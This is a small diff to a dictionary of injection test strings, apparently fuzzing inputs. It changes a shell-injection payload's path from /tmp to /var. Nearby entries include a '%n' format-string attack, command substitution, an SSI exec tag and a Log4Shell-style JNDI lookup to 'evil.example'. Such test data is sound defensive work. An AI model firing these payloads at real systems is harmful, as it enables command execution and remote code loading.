@@ -219,7 +219,7 @@ FORMATS = {
     "percent": "%s %d %(name)s 100%",
     "percent n": "%n%n%n%x",
     "dollar": "$name ${name} $$",
-    "shell": "$(touch /tmp/x) `touch /tmp/x` ; touch /tmp/x | cat && true",
+    "shell": "$(touch /var/x) `touch /var/x` ; touch /var/x | cat && true",
     "environment": "$HOME %PATH% ~root",
     "log": "${jndi:ldap://evil.example/a}",
     "server side include": "<!--#exec cmd=\"ls\" -->",
